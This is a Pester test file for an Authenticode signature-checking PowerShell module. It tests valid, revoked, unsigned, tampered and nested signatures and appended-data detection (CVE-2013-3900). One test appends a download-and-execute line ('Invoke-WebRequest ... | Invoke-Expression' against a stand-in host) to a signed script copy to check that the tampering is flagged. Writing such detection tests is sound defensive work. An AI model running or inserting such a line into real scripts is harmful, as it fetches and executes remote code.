BeforeAll {
    Import-Module (Join-Path $PSScriptRoot 'TestHelpers.psm1') -Force
    Import-Module (Get-ModuleUnderTest) -Force

    $script:runtimeFolder = Split-Path -Parent ([object].Assembly.Location)
    $script:runtimeDll = Join-Path $runtimeFolder 'System.Runtime.dll'
    $script:pe = Get-FixturePath 'authenticode/pe'
    $script:pki = Get-FixturePath 'authenticode/pki'
    # The osslsigncode corpus was signed in 2019 by a test PKI; its peer tests verify at 2019-09-01.
    $script:corpusTime = [datetime]::new(2019, 9, 1, 0, 0, 0, [DateTimeKind]::Utc)
    $script:work = New-TestFolder
}

AfterAll {
    Remove-Item -LiteralPath $script:work -Recurse -Force -ErrorAction SilentlyContinue
}

Describe 'Test-AuthenticodeChain' {
    Context 'Microsoft-signed files with the default trust' {
        It 'reports every DLL of the running .NET as Valid, with signer, root and RFC 3161 timestamp' {
            $results = Test-AuthenticodeChain -Path (Join-Path $runtimeFolder '*.dll')
            $results.Count | Should -BeGreaterThan 100
            ($results | Where-Object Status -NE 'Valid') | Should -BeNullOrEmpty
            $results[0].FileType | Should -Be 'PE'
            $results[0].SignatureType | Should -Be 'Embedded'
            $results[0].SignerSubject | Should -Match 'O=Microsoft Corporation'
            $results[0].RootSubject | Should -Match 'Microsoft Root Certificate Authority'
            $results[0].TimestampType | Should -Be 'Rfc3161'
            $results[0].TimestampUtc | Should -Not -BeNullOrEmpty
            $results[0].Chain.Count | Should -BeGreaterOrEqual 2
        }

        It 'reports every DLL of the running PowerShell ($PSHOME) as Valid' {
            $results = Test-AuthenticodeChain -LiteralPath $PSHOME -Recurse -Include '*.dll'
            $results.Count | Should -BeGreaterThan 100
            ($results | Where-Object Status -NE 'Valid' | ForEach-Object { "$($_.Path): $($_.StatusMessage)" }) | Should -BeNullOrEmpty
        }

        It 'reports NotTrusted when only an unrelated root is trusted' {
            $result = Test-AuthenticodeChain -LiteralPath $runtimeDll -TrustedRootCertificate (Join-Path $pki 'CACert.pem') -NoDefaultTrust
            $result.Status | Should -Be 'NotTrusted'
            $result.IsValid | Should -BeFalse
        }

        It 'pins publishers: the signer''s own thumbprint passes, another is PublisherNotAllowed' {
            $signer = (Test-AuthenticodeChain -LiteralPath $runtimeDll).SignerThumbprint
            (Test-AuthenticodeChain -LiteralPath $runtimeDll -TrustedPublisher $signer).Status | Should -Be 'Valid'
            (Test-AuthenticodeChain -LiteralPath $runtimeDll -TrustedPublisher ('00' * 20)).Status | Should -Be 'PublisherNotAllowed'
        }

        It '-Quiet answers true for all valid, false when any is not' {
            Test-AuthenticodeChain -LiteralPath $runtimeDll -Quiet | Should -BeTrue
            Test-AuthenticodeChain -LiteralPath $runtimeDll, (Join-Path $pe 'unsigned.exe') -Quiet | Should -BeFalse
        }
    }

    Context 'the corpus (osslsigncode test PKI, verified as of 2019-09-01)' {
        BeforeAll {
            $script:corpusArgs = @{
                TrustedRootCertificate = (Join-Path $pki 'CACert.pem'), (Join-Path $pki 'TSACA.pem')
                NoDefaultTrust         = $true
                VerificationTime       = $corpusTime
                CrlPath                = Join-Path $pki 'CACertCRL.pem'
            }
        }

        It '<File> is <Expected>' -ForEach @(
            @{ File = 'signed.exe'; Expected = 'Valid' }
            @{ File = 'nested.exe'; Expected = 'Valid' }
            @{ File = 'ts_cert.exe'; Expected = 'Valid' }
            @{ File = 'removed.exe'; Expected = 'NotSigned' }
            @{ File = 'unsigned.exe'; Expected = 'NotSigned' }
            @{ File = 'revoked.exe'; Expected = 'Revoked' }
            @{ File = 'unsigned.msi'; Expected = 'NotSigned' }
        ) {
            (Test-AuthenticodeChain -LiteralPath (Join-Path $pe $File) @corpusArgs).Status | Should -Be $Expected
        }

        It 'reports the nested signature in NestedSignatures' {
            $result = Test-AuthenticodeChain -LiteralPath (Join-Path $pe 'nested.exe') @corpusArgs
            $result.NestedSignatures.Count | Should -Be 1
            $result.NestedSignatures[0].Status | Should -Be 'Valid'
        }

        It 'reports the tampered AuthenticodeExaminer sample as HashMismatch and the good one as Valid' {
            (Test-AuthenticodeChain -LiteralPath (Join-Path $pe 'AuthenticodeExaminer-bad.dl_')).Status | Should -Be 'HashMismatch'
            (Test-AuthenticodeChain -LiteralPath (Join-Path $pe 'AuthenticodeExaminer-good.dl_')).Status | Should -Be 'Valid'
        }
    }

    Context 'tampering with a real signed DLL' {
        BeforeEach {
            $script:copy = Join-Path $work ([guid]::NewGuid().ToString('N') + '.dll')
            Copy-Item -LiteralPath $runtimeDll -Destination $copy
            $script:bytes = [IO.File]::ReadAllBytes($copy)
        }

        It 'a flipped byte in the code is HashMismatch' {
            $bytes[0x400] = $bytes[0x400] -bxor 0xFF
            [IO.File]::WriteAllBytes($copy, $bytes)
            $result = Test-AuthenticodeChain -LiteralPath $copy
            $result.Status | Should -Be 'HashMismatch'
            $result.StatusMessage | Should -Not -BeNullOrEmpty
        }

        It 'junk appended after the certificate table is UnexpectedData (CVE-2013-3900), not Valid' {
            [IO.File]::WriteAllBytes($copy, $bytes + [byte[]](1..16))
            (Test-AuthenticodeChain -LiteralPath $copy).Status | Should -Be 'UnexpectedData'
        }

        It 'a truncated file is Malformed' {
            [IO.File]::WriteAllBytes($copy, $bytes[0..($bytes.Length - 200)])
            (Test-AuthenticodeChain -LiteralPath $copy).Status | Should -Be 'Malformed'
        }
    }

    Context 'paths and errors' {
        It 'returns one result per file, whatever its state, and errors only for unreadable inputs' {
            $results = Test-AuthenticodeChain -LiteralPath $runtimeDll, (Get-FixturePath 'checksums/tool-1.0.zip'), (Join-Path $work 'absent.dll') -ErrorVariable errors -ErrorAction SilentlyContinue
            $results.Status | Should -Be @('Valid', 'NotSupportedFileFormat')
            $errors.Count | Should -Be 1
            $errors[0].FullyQualifiedErrorId | Should -Be 'PathNotFound,SupplyChainTools.Commands.TestAuthenticodeChainCommand'
        }

        It 'walks a folder with -Recurse and -Include' {
            $results = Test-AuthenticodeChain -LiteralPath $pe -Recurse -Include '*.exe'
            $results.Count | Should -Be @(Get-ChildItem -LiteralPath $pe -Filter *.exe).Count
        }

        It 'refuses -NoDefaultTrust without roots' {
            { Test-AuthenticodeChain -LiteralPath $runtimeDll -NoDefaultTrust } | Should -Throw -ErrorId 'NoTrustedRoots,SupplyChainTools.Commands.TestAuthenticodeChainCommand'
        }

        It 'refuses a thumbprint that is not one' {
            { Test-AuthenticodeChain -LiteralPath $runtimeDll -TrustedPublisher 'contoso' } | Should -Throw -ErrorId 'InvalidTrustedPublisher,SupplyChainTools.Commands.TestAuthenticodeChainCommand'
        }

        It 'reuses a -TrustedRootCertificate bundle across calls, and reads it again when it changes' {
            $bundle = Join-Path (New-TestFolder) 'roots.pem'
            Copy-Item -LiteralPath (Join-Path $pki 'CACert.pem') -Destination $bundle
            $signed = Join-Path $pe 'signed.exe'
            foreach ($call in 1..3) {
                (Test-AuthenticodeChain -LiteralPath $signed -TrustedRootCertificate $bundle -NoDefaultTrust -VerificationTime $corpusTime).Status | Should -Be 'Valid'
            }
            Copy-Item -LiteralPath (Join-Path $pki 'TSACA.pem') -Destination $bundle -Force
            (Get-Item -LiteralPath $bundle).LastWriteTimeUtc = [datetime]::UtcNow.AddMinutes(1)
            (Test-AuthenticodeChain -LiteralPath $signed -TrustedRootCertificate $bundle -NoDefaultTrust -VerificationTime $corpusTime).Status | Should -Be 'NotTrusted' -Because 'the bundle no longer holds the signer''s root'
            (Test-AuthenticodeChain -LiteralPath $signed -TrustedRootCertificate $bundle, (Join-Path $pki 'CACert.pem') -NoDefaultTrust -VerificationTime $corpusTime).Status | Should -Be 'Valid'
        }

        It 'accepts certificate objects as trusted roots' {
            $root = [System.Security.Cryptography.X509Certificates.X509Certificate2]::new((Join-Path $pki 'CACert.pem'))
            (Test-AuthenticodeChain -LiteralPath (Join-Path $pe 'signed.exe') -TrustedRootCertificate $root -NoDefaultTrust -VerificationTime $corpusTime).Status | Should -Be 'Valid'
        }
    }

    Context 'output' {
        It 'survives a remoting round trip with nested signatures, dates and arrays' {
            $original = Test-AuthenticodeChain -LiteralPath (Join-Path $pe 'nested.exe') -TrustedRootCertificate (Join-Path $pki 'CACert.pem') -NoDefaultTrust -VerificationTime $corpusTime
            $copy = Invoke-Roundtrip $original 4
            $copy.PSObject.TypeNames[0] | Should -Be 'Deserialized.SupplyChainTools.AuthenticodeSignature'
            foreach ($name in 'Path', 'Status', 'StatusMessage', 'IsValid', 'FileType', 'SignatureType', 'DigestAlgorithm', 'SignerSubject', 'SignerThumbprint', 'SignerNotAfter', 'IssuerSubject', 'RootSubject', 'RootThumbprint', 'TimestampType') {
                $copy.$name | Should -Be $original.$name -Because $name
            }
            @($copy.Chain) | Should -Be @($original.Chain)
            @($copy.Problems) | Should -Be @($original.Problems)
            $copy.NestedSignatures[0].Status | Should -Be $original.NestedSignatures[0].Status
            $copy.NestedSignatures[0].DigestAlgorithm | Should -Be $original.NestedSignatures[0].DigestAlgorithm
            $copy.Status -eq 'Valid' | Should -BeTrue
        }

        It 'shows folder, status, signer and file name in the default table, also deserialized' {
            $original = Test-AuthenticodeChain -LiteralPath $runtimeDll
            foreach ($item in $original, (Invoke-Roundtrip $original)) {
                $text = $item | Format-Table | Out-String -Width 200
                $text | Should -Match ('Directory: ' + [regex]::Escape((Split-Path -Parent $runtimeDll)))
                $text | Should -Match 'Status\s+Signer\s+Name'
                $text | Should -Match 'Valid\s+\.NET\s+System\.Runtime\.dll'
            }
        }

        It 'converts to JSON' {
            $json = Test-AuthenticodeChain -LiteralPath $runtimeDll | ConvertTo-Json -Depth 5 | ConvertFrom-Json
            $json.Status | Should -Be 'Valid'
        }
    }
}

Describe 'Get-FileIntegrity -Signature' {
    It 'adds the signature summary to the hash record' {
        $result = Get-FileIntegrity -LiteralPath $runtimeDll -Signature
        $result.SHA256 | Should -Be (Get-FileHash -LiteralPath $runtimeDll).Hash
        $result.SignatureStatus | Should -Be 'Valid'
        $result.SignerSubject | Should -Match 'Microsoft'
        $result.SignerThumbprint | Should -Match '^[0-9A-F]{40}$'
        $result.TimestampUtc | Should -Not -BeNullOrEmpty
    }

    It 'reports unsigned and unsupported files too' {
        $results = Get-FileIntegrity -LiteralPath (Join-Path $pe 'unsigned.exe'), (Get-FixturePath 'checksums/tool-1.0.zip') -Signature
        $results.SignatureStatus | Should -Be @('NotSigned', 'NotSupportedFileFormat')
    }

    It 'has no signature properties unless asked' {
        (Get-FileIntegrity -LiteralPath $runtimeDll).PSObject.Properties['SignatureStatus'] | Should -BeNullOrEmpty
    }
}

Describe 'Test-AuthenticodeChain on PowerShell scripts' {
    BeforeAll {
        $script:scriptFiles = @(Get-ChildItem -LiteralPath (Join-Path $PSHOME 'Modules') -Recurse -File -Include '*.ps1', '*.psm1', '*.psd1', '*.ps1xml', '*.mof' |
            Where-Object { (Get-Content -LiteralPath $_.FullName -Raw) -match 'SIG # Begin signature block' })
        $script:scriptWork = New-TestFolder
    }

    AfterAll {
        Remove-Item -LiteralPath $script:scriptWork -Recurse -Force -ErrorAction SilentlyContinue
    }

    It 'reports every Microsoft-signed script of the running PowerShell as Valid, as FileType PowerShellScript' {
        $scriptFiles.Count | Should -BeGreaterThan 40
        $results = Test-AuthenticodeChain -LiteralPath $scriptFiles.FullName
        ($results | Where-Object Status -NE 'Valid' | ForEach-Object { "$($_.Path): $($_.StatusMessage)" }) | Should -BeNullOrEmpty
        ($results.FileType | Sort-Object -Unique) | Should -Be 'PowerShellScript'
        $results[0].RootSubject | Should -Match 'Microsoft'
    }

    It 'says that line endings changed when a signed script was converted to LF' {
        $source = $scriptFiles | Where-Object Extension -EQ '.psm1' | Select-Object -First 1
        $copy = Join-Path $scriptWork $source.Name
        $text = [IO.File]::ReadAllText($source.FullName)
        [IO.File]::WriteAllText($copy, $text.Replace("`r`n", "`n"))
        $result = Test-AuthenticodeChain -LiteralPath $copy
        $result.Status | Should -Be 'HashMismatch'
        $result.StatusMessage | Should -Match 'line ending|CRLF|LF'
    }

    It 'reports code appended after the signature block as UnexpectedData' {
        $source = $scriptFiles | Where-Object Extension -EQ '.psm1' | Select-Object -First 1
        $copy = Join-Path $scriptWork ('appended-' + $source.Name)
        Copy-Item -LiteralPath $source.FullName -Destination $copy
        Add-Content -LiteralPath $copy -Value 'Invoke-WebRequest https://example.invalid/payload | Invoke-Expression'
        (Test-AuthenticodeChain -LiteralPath $copy).Status | Should -Be 'UnexpectedData'
    }

    It 'Get-FileIntegrity -Signature reports script signatures too' {
        $result = Get-FileIntegrity -LiteralPath $scriptFiles[0].FullName -Signature
        $result.SignatureStatus | Should -Be 'Valid'
    }
}
